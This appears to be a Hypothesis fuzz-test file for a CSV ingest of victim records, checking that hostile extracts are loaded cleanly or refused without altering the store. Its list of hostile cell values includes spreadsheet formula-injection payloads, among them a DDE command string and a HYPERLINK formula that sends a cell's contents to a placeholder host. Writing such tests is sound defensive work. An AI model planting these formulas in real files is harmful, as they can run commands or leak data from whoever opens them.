"""Fuzzing ingest: generated hostile extracts are either loaded cleanly or refused cleanly.

Property (issue 17, item 7; docs/data_contract.md section 1 and its row rules): for any bytes
handed to ``vsw ingest victims``, the only outcomes are

- a clean load, whose stored rows all obey the contract (districts in the preset's spelling,
  codes lower-case, every free-text value within its limit), or
- :class:`methods.data.validation.IngestError` naming the rule (and the column and rows for a
  row rule), with the store's data tables byte-for-byte unchanged and one ``refused`` audit
  line added;

never another exception, never a partial write. Extracts are a valid Durham extract mutated
cell by cell (formula prefixes, quotes, delimiters, NULs, line breaks, huge cells, unknown
codes, impossible dates) and as a whole file (encodings, BOM, delimiters, line endings,
truncation, header changes, byte flips), plus plain random bytes.

Examples are derandomised (the ``ci`` profile of conftest) so a run is reproducible;
``bench/fuzz.py`` runs the same generators for 10,000 cases and prints the outcome counts.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import tempfile
import warnings
from collections import Counter
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from methods.config.presets import TEXT_LIMITS, load_force
from methods.core.schema import ETHNICITIES, GENDERS, OFFENCE_GROUPS, VICTIM_COLUMNS
from methods.data.store import Store
from methods.data.validation import IngestError

TODAY = dt.date(2026, 1, 15)
MONTH = "2025-01"
N_ROWS = 12
PRESET = load_force("durham")
COLUMNS = list(VICTIM_COLUMNS)  # the contract's columns, in its order

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '"',
    '""',
    'a"b',
    ",",
    ";",
    "\t",
    "\n",
    "\r\n",
    "\x00",
    "a\x00b",
    "\ufeff",
    "\u202e",
    "é",
    "日本",
    "NULL",
    "",
    " ",
    "DURHAM CITY",
    "Chester le Street",
    "Gotham",
    "BURGLARY",
    "burglary2",
    "2025-02-30",
    "2025-01-32",
    "31/01/2025",
    "2025-1-5",
    "9999-01-01",
    "2024-12-31",
    "121",
    "-1",
    "1e3",
    "NaN",
    "maybe",
    "KE/25/000001",
]


def base_rows() -> list[list[str]]:
    """A valid Durham extract for MONTH (text cells), deterministic."""
    districts = PRESET.district_names
    rows = []
    for i in range(N_ROWS):
        rows.append(
            [
                f"DU/25/{i:06d}",
                f"V{i:06d}",
                OFFENCE_GROUPS[i % len(OFFENCE_GROUPS)],
                f"{MONTH}-{i % 28 + 1:02d}",
                str(18 + 3 * i),
                GENDERS[i % len(GENDERS)],
                ETHNICITIES[i % len(ETHNICITIES)],
                districts[i % len(districts)],
                f"Zelda Quill-{i}",
                f"07700 900{i:03d}",
                f"zq{i}@example.org",
                f"{i} Quill Lane, Testtown",
                *(["true" if (i + j) % 5 == 0 else "false" for j in range(6)]),
            ]
        )
    return rows


def cell_value() -> st.SearchStrategy[str]:
    """A hostile or random cell value."""
    huge = st.builds(
        lambda ch, n: ch * n, st.sampled_from(["x", "=", "é", '"', ","]), st.integers(90, 250_000)
    )
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=30),
        huge,
        st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=10)),
    )


@st.composite
def cell_mutations(draw) -> tuple[list[list[str]], list[tuple[int, int, str]]]:
    rows = base_rows()
    edits = draw(
        st.lists(
            st.tuples(st.integers(0, N_ROWS - 1), st.integers(0, len(COLUMNS) - 1), cell_value()),
            min_size=1,
            max_size=4,
        )
    )
    for r, c, val in edits:
        rows[r][c] = val
    return rows, edits


def to_csv(header: list[str], rows: list[list[str]], quoting: str, delim: str, eol: str) -> str:
    if quoting == "raw":  # no quoting at all: embedded delimiters and quotes break structure
        return eol.join(delim.join(r) for r in [header, *rows]) + eol
    buf = io.StringIO()
    mode = {"minimal": csv.QUOTE_MINIMAL, "all": csv.QUOTE_ALL}[quoting]
    csv.writer(buf, delimiter=delim, lineterminator=eol, quoting=mode).writerows([header, *rows])
    return buf.getvalue()


@st.composite
def extracts(draw) -> tuple[bytes, dict]:
    """File bytes of a mutated extract, and what was done to it."""
    rows, edits = draw(cell_mutations()) if draw(st.booleans()) else (base_rows(), [])
    header = list(COLUMNS)
    how = draw(
        st.sampled_from(["none", "drop", "duplicate", "upper", "extra", "rename", "shuffle"])
    )
    if how == "drop":
        k = draw(st.integers(0, len(header) - 1))
        header.pop(k)
        rows = [r[:k] + r[k + 1 :] for r in rows]
    elif how == "duplicate":
        k = draw(st.integers(0, len(header) - 1))
        header.append(header[k])
        rows = [[*r, r[k]] for r in rows]
    elif how == "upper":
        header = [h.upper() for h in header]
    elif how == "extra":
        header.append(draw(st.sampled_from(["notes", "=cmd", "", " district "])))
        rows = [[*r, "x"] for r in rows]
    elif how == "rename":
        header[draw(st.integers(0, len(header) - 1))] = draw(st.text(max_size=12))
    elif how == "shuffle":
        order = draw(st.permutations(range(len(header))))
        header = [header[i] for i in order]
        rows = [[r[i] for i in order] for r in rows]
    rows = rows[: draw(st.integers(0, len(rows)))] if draw(st.integers(0, 9)) == 0 else rows
    quoting = draw(st.sampled_from(["minimal", "all", "raw"]))
    delim = draw(st.sampled_from([",", ",", ",", ";", "\t", "|"]))
    eol = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    text = to_csv(header, rows, quoting, delim, eol)
    enc = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "cp1252"]))
    data = text.encode(enc, errors="replace")
    cut = draw(st.sampled_from(["none", "none", "none", "truncate", "flip"]))
    if cut == "truncate" and data:
        data = data[: draw(st.integers(0, len(data) - 1))]
    elif cut == "flip" and data:
        pos = draw(st.lists(st.integers(0, len(data) - 1), min_size=1, max_size=5))
        b = bytearray(data)
        for p in pos:
            b[p] = draw(st.integers(0, 255))
        data = bytes(b)
    info = {"edits": edits, "header": how, "quoting": quoting, "delim": delim, "enc": enc}
    info.update(eol=eol, cut=cut)
    return data, info


# --------------------------------------------------------------------------- running a case

_WORK = Path(tempfile.mkdtemp(prefix="vsw-fuzz-"))


def base_store() -> Path:
    """A store holding one earlier Durham month (so 'unchanged' is a real claim)."""
    db = _WORK / "base.duckdb"
    if not db.exists():
        prev = base_rows()
        for r in prev:
            r[0] = r[0].replace("DU/25/", "DU/24/")
            r[1] = "P" + r[1]
            r[3] = "2024-12-" + r[3][-2:]
        path = _WORK / "prev.csv"
        path.write_text(to_csv(COLUMNS, prev, "minimal", ",", "\n"), encoding="utf-8")
        with Store(db, today=TODAY) as s:
            s.ingest_victims(path, month="2024-12", force="durham")
    return db


def data_digests(store: Store) -> dict:
    return {t: d for t, d in store.table_digests().items() if t != "audit"}


def run_case(data: bytes, force: str | None = "durham") -> str:
    """Ingest ``data`` into a copy of the base store; return the outcome, checking it.

    Returns ``"loaded"`` or ``"refused:<column or file>"``; raises AssertionError when the
    property fails (any other exception propagates).
    """
    db = _WORK / "case.duckdb"
    shutil.copy(base_store(), db)
    Path(f"{db}.wal").unlink(missing_ok=True)
    path = _WORK / "case.csv"
    path.write_bytes(data)
    with Store(db, today=TODAY) as s:
        before = data_digests(s)
        n_audit = len(s.audit())
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                res = s.ingest_victims(path, month=MONTH, force=force)
        except IngestError as err:
            assert err.rule and err.problems
            for p in err.problems:
                assert p.rule
                assert p.rows == sorted(p.rows) and all(r >= 1 for r in p.rows)
                if p.rows:
                    assert p.column is not None or "row" in p.rule or "line" in str(err)
            assert data_digests(s) == before, "a refused ingest changed the store"
            audit = s.audit()
            assert len(audit) == n_audit + 1 and audit["outcome"].iloc[-1] == "refused"
            assert "Zelda" not in str(err) and "Quill Lane" not in str(err)
            return f"refused:{err.column or 'file'}"
        assert res["force"] == "durham" and res["rows"] >= 1
        v = s.victims(MONTH, personal=True)
        assert len(v) == res["rows"]
        assert set(v["district"]) <= set(PRESET.district_names)
        assert set(v["offence_group"]) <= set(OFFENCE_GROUPS)
        for col, n in TEXT_LIMITS.items():
            if col in v:
                assert v[col].dropna().str.len().max() <= n if v[col].notna().any() else True
        assert v["crime_ref"].str.upper().str.startswith("DU").all()
        return "loaded"


# --------------------------------------------------------------------------- properties

_FUZZ = settings(
    max_examples=100,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def test_base_extract_loads():
    assert run_case(to_csv(COLUMNS, base_rows(), "minimal", ",", "\n").encode()) == "loaded"


@_FUZZ
@given(extracts())
def test_mutated_extracts_load_or_are_refused_cleanly(case):
    run_case(case[0])


@_FUZZ
@given(st.binary(max_size=4096))
def test_random_bytes_are_refused_cleanly(data):
    assert run_case(data) != "loaded" or b"crime_ref" in data.lower()


def _known_bad(col: str, val: str) -> bool:
    """A value the contract refuses in ``col`` whatever else the row holds."""
    x = val.strip(" ")
    if col in TEXT_LIMITS and len(x) > TEXT_LIMITS[col]:
        return True
    if col == "district":
        return x != "" and x.lower() not in PRESET.district_lookup
    if col == "offence_group":
        return x != "" and x.lower() not in OFFENCE_GROUPS
    if col == "crime_ref":
        return x != "" and not x.upper().startswith("DU")
    return False


@_FUZZ
@given(
    st.integers(0, N_ROWS - 1),
    st.sampled_from(["district", "offence_group", "crime_ref", "name", "address"]),
    cell_value(),
)
def test_a_bad_cell_is_named_by_row_and_column(row, col, val):
    """One cell set to a value the contract refuses: the refusal names that row and column."""
    if any(ch in val for ch in "\x00\r\n") or not _known_bad(col, val):
        return  # structure-breaking or valid values are the other properties' business
    rows = base_rows()
    rows[row][COLUMNS.index(col)] = val
    data = to_csv(COLUMNS, rows, "minimal", ",", "\n").encode("utf-8")
    db = _WORK / "cell.duckdb"
    shutil.copy(base_store(), db)
    with Store(db, today=TODAY) as s:
        try:
            path = _WORK / "cell.csv"
            path.write_bytes(data)
            s.ingest_victims(path, month=MONTH, force="durham")
        except IngestError as err:
            assert any(p.column == col and row + 1 in p.rows for p in err.problems), str(err)
        else:
            raise AssertionError(f"{col}={val[:40]!r} was loaded")


def outcome_counts(cases: list[bytes]) -> Counter:
    """Outcomes of :func:`run_case` over ``cases`` (used by bench/fuzz.py)."""
    return Counter(run_case(c) for c in cases)
